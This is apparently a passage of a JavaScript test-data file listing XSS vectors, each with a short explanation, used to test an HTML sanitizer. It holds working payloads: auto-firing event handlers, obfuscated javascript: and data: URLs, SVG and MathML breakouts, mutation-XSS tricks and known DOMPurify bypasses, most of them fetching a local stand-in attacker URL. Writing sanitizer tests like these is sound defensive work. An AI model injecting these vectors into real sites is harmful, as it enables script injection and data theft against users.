// Script-injection vectors for xss.test.mjs, as data: each is markup a hostile page can
// put inside its article, with a short `why` (what it tries). Grouped by kind; several
// groups are generated systematically (every event handler × carrier tags, every scheme
// obfuscation × every attribute that navigates or loads), the rest written out by hand
// from the usual sanitizer-bypass lists (tests/sanitize.rs has the Rust-side ideas).
//
// Placeholders, filled in by expand() for one vector, one test phase and the test server:
//   {{JS}}       the payload: calls top.__xss(ID) and fetches the attacker URL; no spaces,
//                no quotes, no < > or &, so it fits an unquoted attribute or a URL
//   {{URL}}      the attacker URL http://127.0.0.1:PORT/attacker/PHASE/ID (any request to
//                it is a finding); {{PRURL}} the same without its scheme (//127.0.0.1…)
//   {{ORIGIN}}   http://127.0.0.1:PORT
//   {{JS_DEC}} {{JS_HEX}} {{JS_PCT}}   the payload as decimal / hex character references,
//                or percent-encoded
//   {{HTML_B64}} base64 of <script>{{JS}}</script>;  {{SVG_B64}} base64 of an SVG document
//                whose onload runs {{JS}};  {{SVG_URL}} the same SVG, URL-encoded
//   {{ID}}       the vector's id
//
// Fields: id (unique), group, html (placed in its own <div> inside the article), why;
// optional: head (markup placed in the page's <head>); tail (it swallows or reshapes what
// follows it: it goes last in its page); solo (it changes the whole page, how it decodes
// or resolves: a page of its own); eof (the page ends inside it: last in the file, after
// </html>); live: false (left out of the live page: it would stop the test itself). tail,
// solo and eof vectors are left out of the live page too. event (generated handlers: the
// event that fires them).

const vectors = [];
const add = (group, id, html, why, extra = {}) => vectors.push({ group, id: `${group}-${id}`, html, why, ...extra });

// ---------------------------------------------------------------------------------------
// handler: every event handler attribute on kept carrier tags. If one survived, the test's
// synthetic events (or the browser's own: load, error, focus) would fire it.

const EVENTS = [
  'onclick', 'ondblclick', 'onmousedown', 'onmouseup', 'onmouseover', 'onmouseenter', 'onmousemove', 'onmouseout',
  'onmouseleave', 'onpointerover', 'onpointerenter', 'onpointerdown', 'onpointerup', 'onpointermove', 'onpointerleave',
  'onfocus', 'onfocusin', 'onblur', 'onfocusout', 'onkeydown', 'onkeyup', 'onkeypress', 'oncontextmenu', 'onauxclick',
  'onwheel', 'onscroll', 'onscrollend', 'oncopy', 'oncut', 'onpaste', 'ondrag', 'ondragstart', 'ondragenter', 'ondragover',
  'ondrop', 'onselectstart', 'onbeforeinput', 'oninput', 'onchange', 'ontouchstart', 'onanimationstart', 'onanimationend',
  'ontransitionend', 'ongotpointercapture', 'oncontentvisibilityautostatechange',
];
// The third carrier rotates through the other tags the reader keeps.
const ROTATING = [
  ['img', (ev) => `<p><img src="x" alt="A photo of the quay" ${ev}={{JS}}></p>`],
  ['em', (ev) => `<p>The <em ${ev}={{JS}}>emphasised</em> words.</p>`],
  ['td', (ev) => `<table><tr><td ${ev}={{JS}}>Tide table cell</td><td>4.2 m</td></tr></table>`],
  ['li', (ev) => `<ul><li ${ev}={{JS}}>A list item about the harbour</li></ul>`],
  ['h2', (ev) => `<h2 ${ev}={{JS}}>A section heading</h2>`],
  ['blockquote', (ev) => `<blockquote ${ev}={{JS}}><p>A quoted fisherman.</p></blockquote>`],
  ['abbr', (ev) => `<p><abbr title="Royal National Lifeboat Institution" ${ev}={{JS}}>RNLI</abbr> crews.</p>`],
  ['time', (ev) => `<p>On <time datetime="2025-03-01" ${ev}={{JS}}>1 March</time>.</p>`],
  ['pre', (ev) => `<pre ${ev}={{JS}}><code>tide --port harbour</code></pre>`],
  ['summary', (ev) => `<details><summary ${ev}={{JS}}>More</summary><p>Details text.</p></details>`],
  ['mark', (ev) => `<p>A <mark ${ev}={{JS}}>marked</mark> phrase.</p>`],
  ['sup', (ev) => `<p>A footnote<sup ${ev}={{JS}}>1</sup>.</p>`],
  ['figure', (ev) => `<figure ${ev}={{JS}}><img src="x" alt="quay"><figcaption>The quay</figcaption></figure>`],
  ['dl', (ev) => `<dl><dt ${ev}={{JS}}>Surge</dt><dd>Once a century</dd></dl>`],
  ['ol', (ev) => `<ol ${ev}={{JS}}><li>First</li><li>Second</li></ol>`],
];
EVENTS.forEach((ev, i) => {
  const name = ev.slice(2);
  const fire = `fires on a ${name} event if the attribute survives`;
  add('handler', `${name}-p`, `<p ${ev}={{JS}}>A paragraph that carries ${ev}.</p>`, `${ev} on a kept <p>: ${fire}`, { event: name });
  add('handler', `${name}-a`, `<p>Read <a href="https://example.com/story" ${ev}="{{JS}}">the story</a>.</p>`, `${ev} on a kept link (quoted value): ${fire}`, { event: name });
  const [tag, make] = ROTATING[i % ROTATING.length];
  add('handler', `${name}-${tag}`, make(ev), `${ev} on a kept <${tag}>: ${fire}`, { event: name });
});

// auto: handlers that fire by themselves, with no interaction, in the carriers that fire them.
const AUTO = [
  ['img-onerror', '<img src=x onerror={{JS}}>', 'the classic: a broken image fires onerror as soon as it is inserted'],
  ['img-onload', '<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload={{JS}}>', 'a loadable inline image fires onload'],
  ['img-src-missing-onerror', '<img onerror={{JS}}>', 'an image without src still fires onerror in some engines'],
  ['image-tag', '<image src=x onerror={{JS}}>', 'the parser turns <image> into <img>: a sanitizer that looks for img only misses it'],
  ['svg-onload', '<svg onload={{JS}}></svg>', 'an inline SVG fires onload when parsed'],
  ['svg-g-onload', '<svg><g onload={{JS}}></g></svg>', 'inner SVG elements fire load too in Chromium'],
  ['body-onload', '<body onload={{JS}}>', 'a second <body> tag merges its attributes into the real body'],
  ['body-onpageshow', '<body onpageshow={{JS}}>', 'pageshow on a merged body attribute'],
  ['body-onfocus', '<body onfocus={{JS}}>', 'window focus through a merged body attribute'],
  ['html-onmouseover', '<html onmouseover={{JS}}>', 'a stray <html> tag merges its attributes into the root element'],
  ['details-ontoggle', '<details open ontoggle={{JS}}><summary>More</summary><p>Shown at once.</p></details>', 'an open <details> fires toggle right after insertion'],
  ['details-onbeforematch', '<div hidden=until-found onbeforematch={{JS}}>Found text</div>', 'hidden=until-found fires beforematch on find-in-page (or a synthetic event)'],
  ['input-autofocus', '<input autofocus onfocus={{JS}}>', 'autofocus focuses the field on load: onfocus fires unattended'],
  ['input-autofocus-blur', '<input onblur={{JS}} autofocus><input autofocus>', 'two autofocus fields: the first blurs'],
  ['textarea-autofocus', '<textarea autofocus onfocus={{JS}}>note</textarea>', 'autofocus on a textarea'],
  ['select-autofocus', '<select autofocus onfocus={{JS}}><option>one</option></select>', 'autofocus on a select'],
  ['button-autofocus', '<button autofocus onfocus={{JS}}>Button</button>', 'autofocus on a button'],
  ['keygen-autofocus', '<keygen autofocus onfocus={{JS}}>', 'an obsolete tag parsed as an unknown element with autofocus'],
  ['div-tabindex-autofocus', '<div tabindex=0 autofocus onfocus={{JS}}>Focusable div</div>', 'any element is focusable with tabindex, and autofocus is global'],
  ['contenteditable-autofocus', '<p contenteditable autofocus onfocus={{JS}}>Editable</p>', 'contenteditable makes a paragraph focusable'],
  ['a-autofocus', '<a href="https://example.com/" autofocus onfocus={{JS}}>Focus me</a>', 'autofocus on a kept link'],
  ['video-source-onerror', '<video><source onerror={{JS}}></video>', 'a source without src errors at once'],
  ['video-onerror', '<video src=x onerror={{JS}}></video>', 'a broken video source'],
  ['video-poster-onerror', '<video poster=x onerror={{JS}}></video>', 'poster is loaded as an image'],
  ['audio-onerror', '<audio src=x onerror={{JS}}></audio>', 'a broken audio source'],
  ['audio-onloadstart', '<audio src=x onloadstart={{JS}}></audio>', 'loadstart fires as soon as media loading starts'],
  ['video-track-onerror', '<video><track default src=x onerror={{JS}}></video>', 'a broken text track'],
  ['marquee-onstart', '<marquee onstart={{JS}}>Scrolling news</marquee>', 'marquee fires start as it begins to scroll (in engines that still fire marquee events)'],
  ['marquee-onfinish', '<marquee loop=1 width=1 scrollamount=100 onfinish={{JS}}>x</marquee>', 'a one-loop marquee fires finish (same)'],
  ['iframe-onload', '<iframe onload={{JS}}></iframe>', 'even an empty iframe fires load'],
  ['object-onerror', '<object data=x onerror={{JS}}></object>', 'a broken object fires error'],
  ['embed-onload', '<embed src=x onload={{JS}}>', 'embed fires load'],
  ['style-onload', '<style onload={{JS}}>.x{}</style>', 'a <style> element fires load once parsed'],
  ['link-onerror', '<link rel=stylesheet href=x onerror={{JS}}>', 'a broken stylesheet link fires error'],
  ['script-src-onerror', '<script src=x onerror={{JS}}></script>', 'a broken external script fires error'],
  ['input-image-onerror', '<input type=image src=x onerror={{JS}}>', 'an image button loads its src'],
  ['picture-img-onerror', '<picture><source srcset=x><img src=x onerror={{JS}}></picture>', 'the img inside picture'],
  ['svg-animate-onbegin', '<svg><animate onbegin={{JS}} attributeName=x dur=1s></animate></svg>', 'SMIL begin fires at document time 0'],
  ['svg-animate-onend', '<svg><animate onend={{JS}} attributeName=x dur=0.05s></animate></svg>', 'SMIL end fires when a short animation ends'],
  ['svg-animate-onrepeat', '<svg><animate onrepeat={{JS}} attributeName=x dur=0.05s repeatCount=2></animate></svg>', 'SMIL repeat'],
  ['svg-set-onbegin', '<svg><set onbegin={{JS}} attributeName=x to=1></set></svg>', '<set> begins at once'],
  ['svg-discard-onbegin', '<svg><discard onbegin={{JS}}></discard></svg>', '<discard> begins at once (where SMIL supports it)'],
  ['svg-image-onerror', '<svg><image href=x onerror={{JS}}></image></svg>', 'an SVG image errors like an HTML one'],
  ['dialog-onclose', '<dialog open onclose={{JS}}><form method=dialog><button>Close</button></form></dialog>', 'closing a dialog fires close'],
  ['popover-onbeforetoggle', '<div popover id=pop onbeforetoggle={{JS}}>Popover</div><button popovertarget=pop>Open</button>', 'a popover button fires beforetoggle on its target'],
  ['form-onsubmit', '<form onsubmit={{JS}}><button>Send</button></form>', 'submit fires on click'],
  ['form-oninput', '<form oninput={{JS}}><input value=x></form>', 'input events bubble to the form'],
  ['frameset-onload', '<frameset onload={{JS}}><frame src=x></frameset>', 'frameset in body is ignored by parsers, maybe not by a sanitizer'],
  ['custom-element', '<lectern-x tabindex=0 autofocus onfocus={{JS}}>custom</lectern-x>', 'a custom element keeps global attributes'],
  ['unknown-element', '<xss autofocus tabindex=1 onfocusin={{JS}}>unknown</xss>', 'an unknown element (HTMLUnknownElement) with a handler'],
  ['math-onclick', '<math><mi onclick={{JS}}>x</mi></math>', 'MathML elements take global event handlers'],
  ['math-autofocus', '<math><mi tabindex=0 autofocus onfocus={{JS}}>y</mi></math>', 'MathML is focusable with tabindex'],
];
for (const [id, html, why] of AUTO) add('auto', id, html, why);

// ---------------------------------------------------------------------------------------
// scheme: every way of writing javascript: × every attribute that runs a URL.

const SCHEMES = [
  ['plain', 'javascript:{{JS}}', 'the plain scheme'],
  ['mixed-case', 'JaVaScRiPt:{{JS}}', 'schemes are case-insensitive'],
  ['upper', 'JAVASCRIPT:{{JS}}', 'upper case'],
  ['dec', '&#106;avascript:{{JS}}', 'a decimal character reference'],
  ['dec-nosemi', '&#106avascript&#58{{JS}}', 'references without semicolons still decode in attributes'],
  ['dec-padded', '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{{JS}}', 'zero-padded decimal references'],
  ['hex', '&#x6A;avascript:{{JS}}', 'a hex character reference'],
  ['hex-all', '&#X6A&#X61&#X76&#X61&#X53&#X63&#X52&#X69&#X70&#X74&#X3A{{JS}}', 'every letter as an upper-case-X hex reference, no semicolons'],
  ['tab-ref', 'java&#9;script:{{JS}}', 'URL parsers drop tabs'],
  ['nl-ref', 'java&#10;script:{{JS}}', 'URL parsers drop newlines'],
  ['cr-ref', 'java&#13;script:{{JS}}', 'URL parsers drop carriage returns'],
  ['named-tab', 'java&Tab;script:{{JS}}', 'the named reference &Tab;'],
  ['named-newline', 'jav&NewLine;ascript&colon;{{JS}}', '&NewLine; and &colon;'],
  ['colon-named', 'javascript&colon;{{JS}}', 'the colon as &colon;'],
  ['colon-hex', 'javascript&#x3a;{{JS}}', 'the colon as a hex reference'],
  ['leading-space', '  \t javascript:{{JS}}', 'leading spaces and tabs are stripped'],
  ['leading-control', '&#1;&#20;javascript:{{JS}}', 'leading C0 controls are stripped'],
  ['literal-tab', 'java\tscript:{{JS}}', 'a literal tab inside the scheme'],
  ['literal-newline', 'java\nscr\nipt:{{JS}}', 'literal newlines inside the scheme'],
  ['percent-body', 'javascript:{{JS_PCT}}', 'the script percent-encoded: decoded before it runs'],
  ['comment-newline', 'javascript://%0A{{JS}}', 'a comment, then a percent-encoded newline'],
];
const SCHEME_CONTEXTS = [
  ['a-href', (u) => `<p>See <a href="${u}">this link</a>.</p>`, 'runs when the link is clicked'],
  ['iframe-src', (u) => `<iframe src="${u}"></iframe>`, 'runs as soon as the frame loads'],
  ['form-action', (u) => `<form action="${u}"><button>Send</button></form>`, 'runs when the form is submitted'],
  ['button-formaction', (u) => `<form><button formaction="${u}">Send</button></form>`, 'runs when the button submits'],
  ['svg-xlink-href', (u) => `<svg width=120 height=20><a xlink:href="${u}"><text x=0 y=15>svg link</text></a></svg>`, 'an SVG link runs it on click'],
];
for (const [sid, scheme, swhy] of SCHEMES) {
  for (const [cid, make, cwhy] of SCHEME_CONTEXTS) add('scheme', `${sid}-${cid}`, make(scheme), `${swhy}; ${cwhy}`);
}
// A few more carriers, with the plain and one obfuscated scheme.
for (const [sid, scheme] of [['plain', 'javascript:{{JS}}'], ['dec', '&#106;avascript:{{JS}}']]) {
  add('scheme', `${sid}-area-href`, `<img src=x usemap=#m-${sid} alt=map><map name=m-${sid}><area shape=default href="${scheme}"></map>`, 'an image-map area is a link too');
  add('scheme', `${sid}-object-data`, `<object data="${scheme}"></object>`, 'an object given a javascript: document');
  add('scheme', `${sid}-embed-src`, `<embed src="${scheme}">`, 'an embed given a javascript: document');
  add('scheme', `${sid}-input-formaction`, `<form><input type=submit formaction="${scheme}" value=Go></form>`, 'a submit input with formaction');
  add('scheme', `${sid}-svg-a-href`, `<svg width=120 height=20><a href="${scheme}"><text x=0 y=15>svg2 link</text></a></svg>`, 'SVG 2 links take plain href');
  add('scheme', `${sid}-math-href`, `<math href="${scheme}"><mtext>math link</mtext></math>`, 'MathML href (Firefox makes any MathML element a link)');
  add('scheme', `${sid}-frame-src`, `<frameset><frame src="${scheme}"></frameset>`, 'a frame source');
  add('scheme', `${sid}-blockquote-cite`, `<blockquote cite="${scheme}"><p>Quoted.</p></blockquote>`, 'cite is a URL attribute a sanitizer may copy');
}
add('scheme', 'unquoted-a-href', '<p><a href=javascript:{{JS}}>unquoted</a></p>', 'an unquoted href');
add('scheme', 'single-quoted-a-href', "<p><a href='javascript:{{JS}}'>single-quoted</a></p>", 'a single-quoted href');
add('scheme', 'double-encoded', '<p><a href="&amp;#106;avascript:{{JS}}">double-encoded</a></p>', 'decoding twice would make a javascript: URL of it');
add('scheme', 'middle-reference', '<p><a href="javas&#99;ript:{{JS}}">middle reference</a></p>', 'a reference in the middle of the scheme');
add('scheme', 'vbscript', '<p><a href="vbscript:msgbox(1)">vbscript</a></p>', 'another script scheme (old IE)');
add('scheme', 'livescript', '<p><a href="livescript:{{JS}}">livescript</a></p>', 'Netscape\'s old alias of javascript:');
add('scheme', 'entity-whole-url', '<p><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{{JS_DEC}}">whole</a></p>', 'scheme and script all character references');

// ---------------------------------------------------------------------------------------
// data: data: URLs that hold a document or a script.

const DATA = [
  ['iframe-html', '<iframe src="data:text/html,<script>{{JS}}</script>"></iframe>', 'an HTML document in a frame (opaque origin: only the request can report)'],
  ['iframe-html-b64', '<iframe src="data:text/html;base64,{{HTML_B64}}"></iframe>', 'the same, base64'],
  ['iframe-html-charset', '<iframe src="data:text/html;charset=utf-8,<script>{{JS}}</script>"></iframe>', 'with a charset parameter'],
  ['iframe-upper', '<iframe src="DATA:TEXT/HTML,<script>{{JS}}</script>"></iframe>', 'upper-case scheme and type'],
  ['iframe-svg', '<iframe src="data:image/svg+xml;base64,{{SVG_B64}}"></iframe>', 'an SVG document runs its scripts in a frame'],
  ['iframe-xhtml', '<iframe src="data:application/xhtml+xml;base64,{{XHTML_B64}}"></iframe>', 'an XHTML document'],
  ['iframe-xml', '<iframe src="data:text/xml;base64,{{XHTML_B64}}"></iframe>', 'XHTML served as text/xml'],
  ['object-html', '<object data="data:text/html;base64,{{HTML_B64}}"></object>', 'an object holding an HTML document'],
  ['object-svg', '<object type="image/svg+xml" data="data:image/svg+xml;base64,{{SVG_B64}}"></object>', 'an object holding an SVG document'],
  ['embed-svg', '<embed type="image/svg+xml" src="data:image/svg+xml;base64,{{SVG_B64}}">', 'an embed holding an SVG document'],
  ['embed-html', '<embed src="data:text/html;base64,{{HTML_B64}}">', 'an embed holding HTML'],
  ['a-href-html', '<p><a href="data:text/html;base64,{{HTML_B64}}">data link</a></p>', 'a link to a data: document'],
  ['a-href-svg', '<p><a href="data:image/svg+xml,{{SVG_URL}}">svg data link</a></p>', 'a link to an SVG data: document'],
  ['form-action', '<form action="data:text/html;base64,{{HTML_B64}}"><button>Send</button></form>', 'a form posting to a data: document'],
  ['script-src', '<script src="data:text/javascript,{{JS}}"></script>', 'an external script from a data: URL'],
  ['script-src-bare', '<script src="data:,{{JS}}"></script>', 'a data: URL without a type'],
  ['svg-script-href', '<svg><script href="data:text/javascript,{{JS}}"></script></svg>', 'an SVG script with href'],
  ['svg-script-xlink', '<svg><script xlink:href="data:text/javascript,{{JS}}"></script></svg>', 'an SVG script with xlink:href'],
  ['svg-use', '<svg><use href="data:image/svg+xml;base64,{{SVG_B64}}#x"></use></svg>', 'use with a data: document'],
  ['svg-image', '<svg><image href="data:image/svg+xml;base64,{{SVG_B64}}"></image></svg>', 'an SVG image of an SVG with script (must not run, must not survive)'],
  ['img-svg', '<img src="data:image/svg+xml;base64,{{SVG_B64}}" alt=svg>', 'an <img> of a scripted SVG (never runs in img; a sanitizer must still drop it)'],
  ['img-svg-utf8', '<img src="data:image/svg+xml;utf8,{{SVG_URL}}" alt=svg>', 'the same, URL-encoded'],
  ['link-css', '<link rel=stylesheet href="data:text/css,p{background:url({{URL}})}">', 'a data: stylesheet that loads the attacker URL'],
  ['meta-refresh', '<meta http-equiv=refresh content="0;url=data:text/html;base64,{{HTML_B64}}">', 'a refresh to a data: document'],
  ['entity-scheme', '<iframe src="d&#97;ta:text/html,<script>{{JS}}</script>"></iframe>', 'a reference inside data:'],
  ['whitespace-scheme', '<iframe src=" da\tta:text/html,<script>{{JS}}</script>"></iframe>', 'whitespace inside and before data:'],
  ['input-image-svg', '<input type=image src="data:image/svg+xml;base64,{{SVG_B64}}">', 'an image button with an SVG'],
  ['video-poster-svg', '<video poster="data:image/svg+xml;base64,{{SVG_B64}}"></video>', 'a poster that is an SVG'],
  ['srcset-svg', '<img srcset="data:image/svg+xml;base64,{{SVG_B64}} 1x" alt=srcset>', 'a scripted SVG as a srcset candidate'],
  ['source-srcset-svg', '<picture><source srcset="data:image/svg+xml;base64,{{SVG_B64}}"><img alt=pic></picture>', 'a picture source of SVG'],
];
for (const [id, html, why] of DATA) add('data', id, html, why);

// ---------------------------------------------------------------------------------------
// svg: script and navigation through SVG.

const SVG = [
  ['script', '<svg><script>{{JS}}</script></svg>', 'a script element in SVG'],
  ['script-cdata', '<svg><script><![CDATA[{{JS}}]]></script></svg>', 'the script in a CDATA section'],
  ['script-ecmascript', '<svg><script type="text/ecmascript">{{JS}}</script></svg>', 'an SVG script type'],
  ['script-external', '<svg><script href="{{URL}}"></script></svg>', 'an external SVG script (a request)'],
  ['script-external-xlink', '<svg><script xlink:href="{{URL}}"></script></svg>', 'the same with xlink:href'],
  ['xmlns-script', '<svg xmlns="http://www.w3.org/2000/svg"><script>{{JS}}</script></svg>', 'an explicit SVG namespace'],
  ['slash-onload', '<svg/onload={{JS}}>', 'a slash instead of a space'],
  ['animate-href', '<svg width=120 height=20><a><animate attributeName=href values="javascript:{{JS}}"></animate><text x=0 y=15>animated link</text></a></svg>', 'SMIL turns a link\'s href into javascript:'],
  ['set-href', '<svg width=120 height=20><a><set attributeName=href to="javascript:{{JS}}"></set><text x=0 y=15>set link</text></a></svg>', '<set> gives a link a javascript: href'],
  ['animate-xlink-href', '<svg width=120 height=20><a xlink:href="#"><animate attributeName="xlink:href" values="javascript:{{JS}}"></animate><text x=0 y=15>xlink</text></a></svg>', 'the same on xlink:href'],
  ['set-onload', '<svg><set attributeName=onload to="{{JS}}"></set></svg>', 'SMIL setting an event handler attribute (blocked in browsers, must not survive)'],
  ['animate-onmouseover', '<svg><rect width=50 height=20><animate attributeName=onmouseover values="{{JS}}"></animate></rect></svg>', 'animating a handler attribute'],
  ['foreignobject-img', '<svg><foreignObject width=50 height=50><img src=x onerror={{JS}}></foreignObject></svg>', 'HTML inside foreignObject is live HTML'],
  ['foreignobject-iframe', '<svg><foreignObject width=50 height=50><iframe src="javascript:{{JS}}"></iframe></foreignObject></svg>', 'a frame inside foreignObject'],
  ['foreignobject-script', '<svg><foreignObject><script>{{JS}}</script></foreignObject></svg>', 'an HTML script inside foreignObject'],
  ['style-img', '<svg><style><img src=x onerror={{JS}}></style></svg>', 'SVG <style> is not raw text: the <img> breaks out as HTML'],
  ['title-img', '<svg><title><img src=x onerror={{JS}}></title></svg>', 'SVG <title> is an HTML integration point'],
  ['desc-img', '<svg><desc><img src=x onerror={{JS}}></desc></svg>', 'SVG <desc> too'],
  ['image-href', '<svg><image href="{{URL}}"></image></svg>', 'an SVG image loads the attacker URL'],
  ['image-xlink-href', '<svg><image xlink:href="{{URL}}"></image></svg>', 'the same with xlink:href'],
  ['use-href', '<svg><use href="{{URL}}#x"></use></svg>', 'use loads an external document'],
  ['feimage', '<svg><filter id=f><feImage href="{{URL}}"></feImage></filter><rect filter="url(#f)" width=10 height=10></rect></svg>', 'a filter image'],
  ['style-import', '<svg><style>@import url({{URL}});</style></svg>', 'an @import in SVG style'],
  ['a-target', '<svg width=120 height=20><a href="javascript:{{JS}}" target=_self><text x=0 y=15>target</text></a></svg>', 'an SVG link with a target'],
  ['nested-svg-onload', '<svg><svg onload={{JS}}></svg></svg>', 'a nested svg element'],
  ['iframe-in-svg', '<svg><iframe src="javascript:{{JS}}"></iframe></svg>', 'an iframe tag in SVG content'],
  ['cdata-breakout', '<svg><![CDATA[><img src=x onerror={{JS}}>]]></svg>', 'CDATA in SVG is text; in HTML it is a bogus comment ending at the first >'],
  ['textpath', '<svg><text><textPath href="javascript:{{JS}}">path</textPath></text></svg>', 'textPath href'],
  ['mpath', '<svg><animateMotion dur=1s><mpath href="{{URL}}#p"></mpath></animateMotion></svg>', 'an mpath reference to an external document'],
  ['pattern', '<svg><pattern id=p href="{{URL}}#q"></pattern><rect fill="url(#p)" width=10 height=10></rect></svg>', 'a pattern inheriting from an external one'],
];
for (const [id, html, why] of SVG) add('svg', id, html, why);

// ---------------------------------------------------------------------------------------
// mathml: MathML, its integration points and the namespace confusion around them.

const MATH = [
  ['href-mi', '<math><mrow href="javascript:{{JS}}"><mi>x</mi></mrow></math>', 'MathML href on an inner element (Firefox)'],
  ['mi-xlink', '<math><mi xlink:href="javascript:{{JS}}">x</mi></math>', 'xlink:href on a MathML token'],
  ['maction', '<math><maction actiontype=statusline xlink:href="javascript:{{JS}}"><mtext>act</mtext><mtext>status</mtext></maction></math>', 'maction with a link'],
  ['mglyph-style', '<math><mtext><table><mglyph><style><img src=x onerror={{JS}}></style></mglyph></table></mtext></math>', 'mglyph in a table in mtext is MathML again: its style is not raw text'],
  ['annotation-html', '<math><annotation-xml encoding="text/html"><img src=x onerror={{JS}}></annotation-xml></math>', 'annotation-xml with text/html is an HTML integration point'],
  ['annotation-xhtml-iframe', '<math><annotation-xml encoding="application/xhtml+xml"><iframe src="javascript:{{JS}}"></iframe></annotation-xml></math>', 'with XHTML too'],
  ['semantics-script', '<math><semantics><annotation-xml encoding="text/html"><script>{{JS}}</script></annotation-xml></semantics></math>', 'an HTML script inside annotation-xml'],
  ['mtext-script', '<math><mtext><script>{{JS}}</script></mtext></math>', 'mtext is an HTML integration point'],
  ['mtext-iframe-srcdoc', '<math><mtext><iframe srcdoc="<script>{{JS}}</script>"></iframe></mtext></math>', 'a srcdoc frame in mtext'],
  ['style-img', '<math><style><img src=x onerror={{JS}}></style></math>', 'MathML <style> is not raw text'],
  ['textarea-path', '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror={{JS}}>"></path></textarea></mtext></svg></mglyph></mi></math>', 'DOMPurify 2.0.17 bypass: a textarea that is SVG on one parse and HTML on the next'],
  ['form-mglyph', '<form><math><mtext></form><form><mglyph><style></math><img src onerror={{JS}}>', 'DOMPurify 2.0.0 bypass: nested forms and mglyph (its style swallows what follows)', { tail: true }],
  ['h1-mglyph-style', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror={{JS}}>"></a></style></mtext></svg></mglyph></h1></mtext></math>', 'DOMPurify 2.0.1 bypass through the adoption agency', { solo: true }],
  ['comment-mglyph', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror={{JS}}&gt;"></style></mglyph></table></mtext></math>', 'DOMPurify 2.2.2 bypass: a comment in a MathML style (on a live parse it runs to the next -->)', { tail: true }],
  ['malignmark', '<math><mtext><table><malignmark><style><img src=x onerror={{JS}}></style></malignmark></table></mtext></math>', 'malignmark behaves like mglyph'],
  ['mi-autofocus', '<math><mi tabindex=1 autofocus onfocusin={{JS}}>z</mi></math>', 'a focusable MathML token with a handler'],
  ['annotation-svg', '<math><annotation-xml encoding="SVG1.1"><svg onload={{JS}}></svg></annotation-xml></math>', 'SVG inside annotation-xml'],
  ['math-in-svg-style', '<svg><foreignObject><math><style><img src=x onerror={{JS}}></style></math></foreignObject></svg>', 'MathML style inside SVG foreignObject'],
];
for (const [id, html, why, extra] of MATH) add('mathml', id, html, why, extra);

// ---------------------------------------------------------------------------------------
// mxss: markup that parses to something harmless once and to a script on the next parse
// (the reader parses the core's output again), and attribute values that try to break
// out of the attribute the core writes them into.

const MXSS = [
  ['noscript-title', '<noscript><p title="</noscript><img src=x onerror={{JS}}>"></noscript>', 'scripting on: </noscript> ends the raw text inside the attribute; off: a harmless title'],
  ['noscript-style', '<noscript><style></noscript><img src=x onerror={{JS}}></style></noscript>', 'the same through a style element'],
  ['noembed-title', '<noembed><img title="</noembed><img src=x onerror={{JS}}>"></noembed>', 'noembed is raw text'],
  ['noframes-title', '<noframes><img title="</noframes><img src=x onerror={{JS}}>"></noframes>', 'noframes is raw text'],
  ['xmp-title', '<xmp><img title="</xmp><img src=x onerror={{JS}}>"></xmp>', 'xmp is raw text'],
  ['iframe-title', '<iframe><img title="</iframe><img src=x onerror={{JS}}>"></iframe>', 'iframe content is raw text'],
  ['textarea-title', '<textarea><img title="</textarea><img src=x onerror={{JS}}>"></textarea>', 'textarea is RCDATA'],
  ['title-title', '<title><img title="</title><img src=x onerror={{JS}}>"></title>', 'title is RCDATA'],
  ['style-title', '<style><img title="</style><img src=x onerror={{JS}}>"></style>', 'style is raw text'],
  ['script-template', '<script type="text/template"><img title="</script><img src=x onerror={{JS}}>"></script>', 'a template script ends at the first </script>'],
  ['svg-p-style', '<svg></p><style><a id="</style><img src=1 onerror={{JS}}>"></a></style></svg>', '</p> leaves SVG: the style becomes raw text on the second parse'],
  ['svg-style-a', '<svg><style><a id="</style><img src=1 onerror={{JS}}>"></a></style></svg>', 'an SVG style holds an element whose attribute is a closing style tag'],
  ['svg-p-breakout', '<svg><p><style><a id="</style><img src=1 onerror={{JS}}>"></a></style></p></svg>', '<p> breaks out of SVG'],
  ['select-template', '<select><template><style><img src=x onerror={{JS}}></style></template></select>', 'template inside select'],
  ['table-foster', '<table><tr><td>cell</td></tr><img src=x onerror={{JS}}></table>', 'foster parenting moves the img before the table'],
  ['table-style', '<table><style><img title="</style><img src=x onerror={{JS}}>"></style></table>', 'a style in a table'],
  ['a-adoption', '<p><a href="https://example.com/one"><table><a href="javascript:{{JS}}">inner</a></table></a></p>', 'the adoption agency reorders nested links'],
  ['comment-attribute', '<!--<img src="--><img src=x onerror={{JS}}//">', 'the comment ends inside what looks like an attribute'],
  ['comment-bang', '<!-- --!><img src=x onerror={{JS}}>-->', '--!> also ends a comment'],
  ['comment-empty', '<!--><img src=x onerror={{JS}}>-->', '<!--> is a whole comment'],
  ['comment-dash', '<!---><img src=x onerror={{JS}}>-->', '<!---> too'],
  ['comment-conditional', '<!--[if IE]><img src=x onerror={{JS}}><![endif]-->', 'IE conditional comments'],
  ['pi-breakout', '<?xml version="1.0"?><img src=x onerror={{JS}}>', 'a processing instruction is a bogus comment ending at the first >'],
  ['cdata-html', '<![CDATA[><img src=x onerror={{JS}}>]]>', 'CDATA outside foreign content ends at the first >'],
  ['bogus-bang', '<! <img src=x onerror={{JS}}> >', 'a bogus <! comment'],
  ['end-tag-attrs', '</p onclick={{JS}}><p>After a closing tag with attributes.</p>', 'end tags with attributes are dropped, not kept'],
  ['escaped-text', '<p>&lt;img src=x onerror={{JS}}&gt;</p>', 'escaped markup must stay text'],
  ['escaped-pre', '<pre>&lt;script&gt;{{JS}}&lt;/script&gt;</pre>', 'escaped script in pre'],
  ['escaped-code', '<p><code>&lt;svg onload={{JS}}&gt;</code></p>', 'escaped SVG in code'],
  ['escaped-double', '<p>&amp;lt;img src=x onerror={{JS}}&amp;gt;</p>', 'doubly escaped text must not be decoded twice'],
  ['alt-breakout', '<img src=x alt="&quot;&gt;&lt;img src=x onerror={{JS}}&gt;">', 'an alt attribute with quotes and markup'],
  ['title-breakout', '<p><a href="https://example.com/" title="&quot; onmouseover={{JS}} x=&quot;">title</a></p>', 'a title that closes its quote'],
